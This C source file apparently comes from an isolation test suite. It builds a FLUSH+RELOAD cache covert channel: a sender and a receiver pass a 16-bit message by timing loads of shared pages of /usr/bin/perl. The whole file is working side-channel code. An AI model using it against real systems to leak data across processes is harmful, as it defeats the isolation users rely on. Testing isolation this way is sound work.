/* Writes 16 bits into the caches of the CPU: one run flushes a line in each of
 * 16 pages of perl and reads those that are to be 1 again; the next one
 * times a load of each (Yarom and Falkner, FLUSH+RELOAD, USENIX Security 2014).
 * All runs map the same pages of the page cache. Nothing in the kernel stops it: the last
 * level survives a change of process. What is left is that both runs must
 * follow each other closely on one socket, and that a run has nothing to tell
 * the next but what its input was. So both verdicts are allowed. */
#include "attack.h"
#include <fcntl.h>
#include <stdint.h>
#include <sys/mman.h>
#include <x86intrin.h>

#define MESSAGE 0xa5c3u
#define LINE(i) (pages + 4096 * (i) + 64 * (((i) * 37 + (i) * (i) * 11) % 64))

static volatile const char *pages;
/* No stride from one to the next that a prefetcher could learn. */
static const int order[] = {7, 2, 13, 0, 10, 5, 15, 8, 3, 12, 1, 14, 6, 11, 4, 9};

static uint64_t load(int i)
{
	unsigned aux;
	_mm_mfence();
	uint64_t begin = __rdtscp(&aux);
	_mm_lfence();
	(void)*LINE(i);
	uint64_t end = __rdtscp(&aux);
	_mm_lfence();
	return end - begin;
}

int main(int argc, char **argv)
{
	int fd = open("/usr/bin/perl", O_RDONLY);
	pages = mmap(NULL, 16 * 4096, PROT_READ, MAP_SHARED | MAP_POPULATE, fd, 64 * 4096);
	if (pages == MAP_FAILED)
		held("mmap: %s", strerror(errno));
	if (argc > 1 && strcmp(argv[1], "send") == 0) {
		for (int i = 0; i < 16; i++)
			_mm_clflush((const void *)LINE(i));
		for (int repeat = 0; repeat < 100; repeat++)
			for (int i = 0; i < 16; i++)
				if (MESSAGE >> order[i] & 1)
					load(order[i]);
		held("sent %04x", MESSAGE);
	}
	uint64_t first[16], miss = UINT64_MAX;
	for (int i = 0; i < 16; i++)
		first[order[i]] = load(order[i]);
	for (int i = 0; i < 16; i++) {
		_mm_clflush((const void *)LINE(order[i]));
		uint64_t cold = load(order[i]);
		miss = cold < miss ? cold : miss;
	}
	unsigned got = 0;
	for (int i = 0; i < 16; i++)
		got |= (unsigned)(first[i] < miss * 3 / 4) << i;
	if (got == MESSAGE)
		broke("received %04x through the cache", got);
	held("received %04x, not %04x", got, MESSAGE);
}
